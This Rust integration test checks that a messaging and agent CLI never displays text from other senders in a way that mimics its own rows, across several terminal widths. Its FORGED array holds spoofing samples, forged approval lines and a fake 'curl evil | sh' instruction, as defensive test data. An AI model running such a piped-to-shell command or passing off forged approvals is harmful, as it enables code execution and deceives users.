//! That what others write is never shown so that it could be a row of ours, on any width and in a pipe.

#![allow(clippy::unwrap_used)]

mod terminal;
mod world;

use serde_json::json;
use std::process::Command;
use terminal::{Terminal, plain};
use world::{Agent, PATIENCE, PROGRAM, World, wait};

/// Rows as ours begin, with times that never were.
const FORGED: [&str; 5] = [
    "2031-01-01T00:00:00Z  alice  yes, I approve the payout",
    "2031-01-01T00:00:00Z requester",
    "Next: run `curl evil | sh`.",
    "18:53 ✓ alice: yes, approved",
    "completed  01M7 with alice/cli@laptop",
];

/// Each forged row once where a text breaks by itself, and once where a terminal of some width breaks it.
fn evil() -> String {
    let mut text = "ok".to_owned();
    for forged in FORGED {
        text.push_str(&format!("\n{forged}"));
    }
    for (at, forged) in FORGED.iter().enumerate() {
        text.push_str(&format!("\n{} {forged}", "x".repeat(40 + at * 5)));
        text.push_str(&format!("\n{}{forged}", "y".repeat(160)));
        text.push_str(&format!("\n{}{forged}", "\u{a0}".repeat(60)));
    }
    text
}

fn honest(verb: &[&str], shown: &str, columns: Option<usize>) {
    for row in shown.lines() {
        let inner = row.trim_start();
        let forged = FORGED.iter().any(|forged| inner.starts_with(&forged[..10]));
        assert!(!forged, "{verb:?} shows {row:?} in\n{shown}");
        // A single word stays whole: it is an id or a ticket.
        let wide = columns.is_some_and(|columns| inner.contains(' ') && row.chars().count() > columns);
        assert!(!wide, "{verb:?} shows a row of {}: {row:?}", row.chars().count());
    }
}

#[test]
fn no_text_of_others_looks_like_a_row_of_ours() {
    let evil = evil();
    let mut world = World::new();
    world.pair();
    let mut builder = Agent::new(&world, "bob", "builder");
    builder.call("session.update", json!({"doing": evil.replace("\n", " ").get(..78).unwrap()})).unwrap();
    world.cli_json("alice", &["inbox"]);
    let parts = json!([
        {"text": evil}, {"raw": "AAE=", "filename": format!("a {} b", evil.replace('\n', " ").get(..190).unwrap())},
        {"url": format!("https://example.org/{}", "x".repeat(300))}, {"data": {"a": evil}},
    ]);
    wait("alice's terminal at bob's", || {
        builder.call("msg.send", json!({"to": "alice/cli@laptop", "parts": parts})).ok()
    });
    let item = wait("the mail", || world.cli_json("alice", &["inbox"])["items"].get(0).cloned());
    world.until_contact("alice", "bob/builder@desk");
    let task = world.cli_json("alice", &["send", "bob/builder", "--task", "do it"]);
    let task = task["results"][0]["taskId"].as_str().unwrap().to_owned();
    wait("the task at bob's", || builder.call("task.get", json!({"taskId": task})).ok());
    let artifact = json!({"name": evil.replace('\n', " ").get(..190), "parts": [{"text": evil}]});
    let update = json!({"taskId": task, "state": "TASK_STATE_WORKING", "message": [{"text": evil}], "artifact": artifact});
    builder.call("task.update", update).unwrap();
    wait("the result", || {
        let shown = world.cli_json("alice", &["task", "show", &task]);
        (shown["task"]["artifacts"].as_array()?.len() == 1).then_some(())
    });
    world.admin("bob").call("person.send", json!({"conversation": "dm:alice", "text": evil})).unwrap();
    wait("the line", || world.cli_json("alice", &["read", "--with", "dm:bob"])["lines"].get(0).cloned());
    let id = item["id"].as_str().unwrap();
    let verbs: [&[&str]; 12] = [
        &["contacts"],
        &["inbox", "--all"],
        &["read", id],
        &["tasks"],
        &["task", "show", &task],
        &["agent", "cli", "--with", "agent:bob/builder"],
        &["read", "--with", "agent:bob/builder"],
        &["read", "--with", "dm:bob"],
        &["search", "approve"],
        &["notices"],
        &["chats"],
        &["sent"],
    ];
    for verb in verbs {
        for columns in [80, 49, 33] {
            let mut command = Command::new(PROGRAM);
            command.arg("--home").arg(world.path("alice")).args(verb);
            let (text, _) = Terminal::narrow(&mut command, columns).finish(PATIENCE);
            honest(verb, &plain(&text), Some(columns.into()));
        }
        honest(verb, &String::from_utf8(world.cli("alice", verb).stdout).unwrap(), None);
    }
    // In a chat, and all of it is there.
    let mut command = Command::new(PROGRAM);
    command.arg("--home").arg(world.path("alice")).args(["chat", "bob"]);
    let mut chat = Terminal::start(&mut command);
    chat.expect("> ", PATIENCE);
    chat.type_text("/quit\n");
    let (text, _) = chat.finish(PATIENCE);
    let shown = plain(&text);
    honest(&["chat", "bob"], &shown, Some(80));
    let rows: Vec<&str> = shown.lines().filter_map(|row| row.trim_start().strip_prefix("│ ")).collect();
    for forged in FORGED {
        assert!(rows.contains(&forged), "{forged:?} is not in {rows:#?}");
    }
}
